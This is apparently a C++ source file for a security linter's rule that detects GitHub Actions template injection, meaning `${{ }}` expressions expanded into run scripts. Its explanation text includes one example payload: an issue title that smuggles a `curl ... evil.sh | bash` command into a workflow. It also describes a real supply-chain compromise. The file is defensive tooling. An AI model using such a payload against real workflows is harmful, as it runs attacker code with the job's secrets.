// template-injection: `${{ }}` expanded inside code (a `run:` script, the
// script input of github-script and similar actions), where a value someone
// else chooses becomes part of the program.

#include <array>
#include <cctype>

#include "core/text.hpp"
#include "rules/all_rules.hpp"
#include "rules/workflow/expression_sites.hpp"
#include "rules/workflow/expression_sources.hpp"
#include "rules/workflow/workflow_sites.hpp"
#include "shell/shell_script.hpp"

namespace pysec {
namespace {

constexpr RuleInfo template_injection_info{
    .id = "template-injection",
    .title = "expression expanded into code",
    .severity = Severity::High,
    .confidence = Confidence::High,
    .persona = Persona::Regular,
    .family = "workflows",
    .what = "A `${{ }}` expression inside code: every `run:` (workflow steps and composite-action steps, "
            "whatever the shell), and the code inputs of actions that run a script: `actions/github-script` "
            "(`script`), `amadevus/pwsh-script` (`script`), `jannekem/run-python-script-action` (`script`), "
            "`cardinalby/js-eval-action` (`expression`), `nick-fields/retry`, `nick-invision/retry`, "
            "`Wandalen/wretry.action` and `garygrossgarten/github-action-ssh` (`command`), "
            "`appleboy/ssh-action` (`script`), `mathiasvr/command-output`, `addnab/docker-run-action` and "
            "`cross-platform-actions/action` (`run`), `uraimo/run-on-arch-action` (`run`, `install`), the "
            "`vmactions/*-vm` actions (`run`, `prepare`) and `devcontainers/ci` (`runCmd`).\n\n"
            "Each expression is parsed and every context that can flow into its value is classified "
            "(comparisons and boolean functions such as `contains()` yield only true/false and carry "
            "nothing):\n"
            "- attacker-controlled, high severity and confidence: free text of the event payload (titles, "
            "bodies, branch and label names, commit messages, author names and emails), `github.head_ref`, "
            "the whole `github.event`, and `inputs.*` (or `github.event.inputs.*`) declared as `type: "
            "string` or without a type, in workflows and composite actions alike. The workflow's triggers "
            "do not matter: an issue title is chosen by anyone who opens an issue, a commit message on "
            "`push` may come from a merged pull request, and a reusable workflow or action runs for "
            "whatever calls it. One refinement: the inputs of a composite action inside the repository "
            "(not the root `action.yml`, which is published for others) that the repository's own "
            "workflows use are as risky as what those callers pass (`with:` values, else the input's "
            "`default`): literals everywhere means nothing to report, a caller passing an issue title "
            "means a finding that points at that caller.\n"
            "- `env.X` is followed to where X is set (the step's, then the job's, then the workflow's "
            "`env:`; a composite action's step `env:`): a literal is safe, a value with expressions is as "
            "risky as what reaches it (followed up to 4 levels). `matrix.X` is safe when every value of X "
            "is written in the workflow, and followed into the expressions it is written with otherwise.\n"
            "- an input of `type: environment`: low severity, medium confidence.\n"
            "- unknown (step and job outputs, `vars.*`, `github.ref_name`, an `env.X` set nowhere pysec can "
            "see, a matrix computed at run time): informational, low confidence, and only for the "
            "`pedantic` persona: these are everywhere in careful workflows and usually hold values the "
            "workflow computed itself.\n"
            "- never reported: numbers, ids, SHAs, booleans, enums, timestamps, logins, `github.sha`, "
            "`github.event_name`, `github.repository`, `secrets.*`, `needs.*.result`, `steps.*.outcome`, "
            "boolean, number and choice inputs, literals.\n\n"
            "One finding per `${{ }}` (the riskiest context in it), at the expression inside the script; "
            "related locations show the input or `env:` entry the value comes from, or the triggers.",
    .why = "GitHub substitutes `${{ }}` into the script text before the shell (or Node, or Python) reads "
           "it, so the value becomes code: an issue titled `\"; curl -sSfL evil.sh | bash; #` runs that "
           "command with the job's token and secrets. In December 2024 a pull request to Ultralytics "
           "whose branch name held a shell command, expanded into a `run:` of a `pull_request_target` "
           "workflow, gave the attacker code execution in the base repository; from there they poisoned "
           "the Actions cache, and malicious `ultralytics` 8.3.41 and 8.3.42 releases reached PyPI. "
           "GitHub Security Lab's 'untrusted input' research found the same bug in hundreds of workflows.",
    .fix = "Never expand such values into code. Pass them through the environment, where they stay "
           "data: set `env:` on the step to the expression and use the variable, quoted, in the script "
           "(`\"$TITLE\"` in bash, `$env:TITLE` in PowerShell, `process.env.TITLE` in github-script). For "
           "`env.X` the variable already exists: write `\"$X\"` instead of `${{ env.X }}`. For values the "
           "runner exports (`github.head_ref` is `$GITHUB_HEAD_REF`) use the runner's variable.",
    .example = "Before:\n"
               "  - run: echo \"Checking ${{ github.event.pull_request.title }}\"\n"
               "After:\n"
               "  - env:\n"
               "      PR_TITLE: ${{ github.event.pull_request.title }}\n"
               "    run: echo \"Checking $PR_TITLE\"\n",
};

enum class Language { Shell, PowerShell, Python, Cmd, JavaScript, Remote };

struct CodeInput {
    std::string_view action;  // owner/repo, lower-case
    std::string_view input;   // lower-case
    Language language;
};

// Actions whose inputs are programs.  `Remote` ones run the code somewhere the
// step's `env:` does not reach (another host, a container, a VM).
constexpr std::array code_inputs = {
    CodeInput{"actions/github-script", "script", Language::JavaScript},
    CodeInput{"amadevus/pwsh-script", "script", Language::PowerShell},
    CodeInput{"jannekem/run-python-script-action", "script", Language::Python},
    CodeInput{"cardinalby/js-eval-action", "expression", Language::JavaScript},
    CodeInput{"nick-fields/retry", "command", Language::Shell},
    CodeInput{"nick-invision/retry", "command", Language::Shell},
    CodeInput{"wandalen/wretry.action", "command", Language::Shell},
    CodeInput{"mathiasvr/command-output", "run", Language::Shell},
    CodeInput{"garygrossgarten/github-action-ssh", "command", Language::Remote},
    CodeInput{"appleboy/ssh-action", "script", Language::Remote},
    CodeInput{"addnab/docker-run-action", "run", Language::Remote},
    CodeInput{"uraimo/run-on-arch-action", "run", Language::Remote},
    CodeInput{"uraimo/run-on-arch-action", "install", Language::Remote},
    CodeInput{"cross-platform-actions/action", "run", Language::Remote},
    CodeInput{"devcontainers/ci", "runcmd", Language::Remote},
};

bool is_vm_action(std::string_view slug) { return slug.starts_with("vmactions/") && slug.ends_with("-vm"); }

// Variables the runner exports for `github.*` values.
constexpr std::array runner_variables = {
    "action",     "action_path", "action_ref", "action_repository", "actor",    "actor_id",
    "api_url",    "base_ref",    "event_name", "event_path",        "head_ref", "job",
    "ref",        "ref_name",    "ref_type",   "repository",        "repository_id",
    "repository_owner",          "run_attempt", "run_id",           "run_number", "server_url",
    "sha",        "triggering_actor",           "workflow",          "workflow_ref", "workspace",
};

struct CodeSite {
    const Node* scalar;
    Language language;
    std::string description;  // "the `run:` script", "the `script` input of `actions/github-script`"
};

Language language_of_shell(std::string_view shell) {
    switch (shell::dialect_of(shell)) {
        case shell::Dialect::Posix: return Language::Shell;
        case shell::Dialect::PowerShell: return Language::PowerShell;
        case shell::Dialect::Other: break;
    }
    std::string lower = to_lower(trim(shell));
    if (lower.starts_with("python")) return Language::Python;
    if (lower.starts_with("cmd")) return Language::Cmd;
    return Language::Shell;
}

std::vector<CodeSite> code_sites(const WorkflowStep& step) {
    std::vector<CodeSite> sites;
    if (step.run && step.run->is_scalar()) {
        sites.push_back(CodeSite{step.run, language_of_shell(step.effective_shell), "the `run:` script"});
    }
    std::string slug = step.action_slug();
    if (slug.empty() || !step.with || !step.with->is_mapping()) return sites;
    for (const auto& entry : step.with->entries) {
        if (!entry.value->is_scalar()) continue;
        std::string input = to_lower(entry.key->value);
        std::optional<Language> language;
        for (const CodeInput& code : code_inputs) {
            if (code.action == slug && code.input == input) language = code.language;
        }
        if (!language && is_vm_action(slug) && (input == "run" || input == "prepare")) language = Language::Remote;
        if (!language) continue;
        sites.push_back(CodeSite{entry.value, *language,
                                 "the `" + entry.key->value + "` input of `" + step.uses_reference->slug() + "`"});
    }
    return sites;
}

// An environment variable name for a context: `github.event.issue.title` ->
// ISSUE_TITLE, `inputs.tag-name` -> INPUT_TAG_NAME, `steps.meta.outputs.tags` -> META_TAGS.
std::string variable_name_for(std::string_view path) {
    std::vector<std::string_view> segments;
    bool input = path.starts_with("inputs.") || path.starts_with("github.event.inputs.");
    std::size_t position = 0;
    while (position <= path.size()) {
        std::size_t dot = path.find('.', position);
        std::string_view segment = path.substr(position, dot == std::string_view::npos ? dot : dot - position);
        bool noise = segment == "github" || segment == "event" || segment == "steps" || segment == "needs" ||
                     segment == "outputs" || segment == "vars" || segment == "inputs" || segment == "*" ||
                     segment.empty();
        if (!noise) segments.push_back(segment);
        if (dot == std::string_view::npos) break;
        position = dot + 1;
    }
    std::string name = input ? "INPUT" : "";
    for (std::string_view segment : segments) {
        if (!name.empty()) name += '_';
        for (char c : segment) {
            name += std::isalnum(static_cast<unsigned char>(c)) ? static_cast<char>(std::toupper(static_cast<unsigned char>(c)))
                                                                 : '_';
        }
    }
    if (name.empty() || std::isdigit(static_cast<unsigned char>(name.front()))) name = "VALUE";
    return name;
}

std::string variable_reference(Language language, const std::string& name) {
    switch (language) {
        case Language::Shell: return "\"$" + name + "\"";
        case Language::PowerShell: return "$env:" + name;
        case Language::Python: return "os.environ[\"" + name + "\"]";
        case Language::Cmd: return "%" + name + "%";
        case Language::JavaScript: return "process.env." + name;
        case Language::Remote: return "\"$" + name + "\"";
    }
    return name;
}

std::string help_for(const CodeSite& site, const expr::Expr& expression, std::string_view expression_text) {
    std::string fence = "${{ " + std::string(trim(expression_text)) + " }}";
    std::optional<std::string> path = expr::context_path(expression);
    if (path && path->starts_with("env.") && path->find('*') == std::string::npos && site.language != Language::Remote) {
        // The variable is already in the process environment.
        std::string_view written = trim(expression_text);
        std::string name = starts_with_icase(written, "env.") ? std::string(written.substr(4)) : path->substr(4);
        return "write " + variable_reference(site.language, name) + " instead of " + fence;
    }
    if (path && path->starts_with("github.") && site.language != Language::Remote) {
        std::string_view field = std::string_view(*path).substr(7);
        for (std::string_view known : runner_variables) {
            if (field == known) {
                std::string name = "GITHUB_" + to_lower(field);
                for (char& c : name) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
                return "write " + variable_reference(site.language, name) + " (set by the runner) instead of " + fence;
            }
        }
    }
    std::string name = path ? variable_name_for(*path) : "VALUE";
    std::string help = "env:\n  " + name + ": " + fence + "\nthen write " + variable_reference(site.language, name) +
                       " instead of " + fence;
    if (site.language == Language::Remote) {
        help += " (and forward " + name + " to where the code runs, as the action documents)";
    }
    return help;
}

class TemplateInjectionRule final : public Rule {
public:
    const RuleInfo& info() const override { return template_injection_info; }

    void check(const RuleContext& context, FindingSink& sink) const override {
        for_each_step(context.project, [&](const StepSite& site) {
            ExpressionScope scope{site.workflow, site.job, site.action, &site.step, &context.project};
            for (const CodeSite& code : code_sites(site.step)) {
                ScalarExpressions expressions(site.document, *code.scalar);
                for (const ExpressionItem& item : expressions.items()) {
                    if (!item.expression) continue;
                    std::string_view text = item.text(code.scalar->value);
                    ValueSource source = riskiest_source(*item.expression, text, scope);
                    if (source.risk == SourceRisk::Safe) continue;
                    report(site, code, expressions, item, source, sink);
                }
            }
        });
    }

private:
    void report(const StepSite& site, const CodeSite& code, const ScalarExpressions& expressions,
                const ExpressionItem& item, const ValueSource& source, FindingSink& sink) const {
        std::string subject = "`" + source.context + "` (" + source.why + ")";
        std::string message;
        Finding finding = finding_at(expressions.location(item), "");
        switch (source.risk) {
            case SourceRisk::Attacker:
                message = subject + " is expanded into " + code.description +
                          ": whoever sets it can run code in this job";
                break;
            case SourceRisk::Low:
                message = subject + " is expanded into " + code.description +
                          "; pass it through `env:` instead of splicing it into code";
                finding.severity = Severity::Low;
                finding.confidence = Confidence::Medium;
                break;
            case SourceRisk::Unknown:
                message = subject + " is expanded into " + code.description +
                          "; pysec cannot tell who controls its value";
                finding.severity = Severity::Informational;
                finding.confidence = Confidence::Low;
                finding.persona = Persona::Pedantic;
                break;
            case SourceRisk::Safe: return;
        }
        finding.message = std::move(message);
        if (source.definition) {
            const Document& document = source.definition_document ? *source.definition_document : site.document;
            finding.related.push_back(document.location(*source.definition, source.definition_note));
        } else if (source.risk == SourceRisk::Attacker && site.workflow && site.workflow->on_key) {
            finding.related.push_back(
                site.document.location(*site.workflow->on_key, "the events that trigger the workflow"));
        }
        finding.help = help_for(code, *item.expression, item.text(code.scalar->value));
        sink.add(std::move(finding));
    }
};

}  // namespace

std::unique_ptr<Rule> make_template_injection_rule() { return std::make_unique<TemplateInjectionRule>(); }

}  // namespace pysec
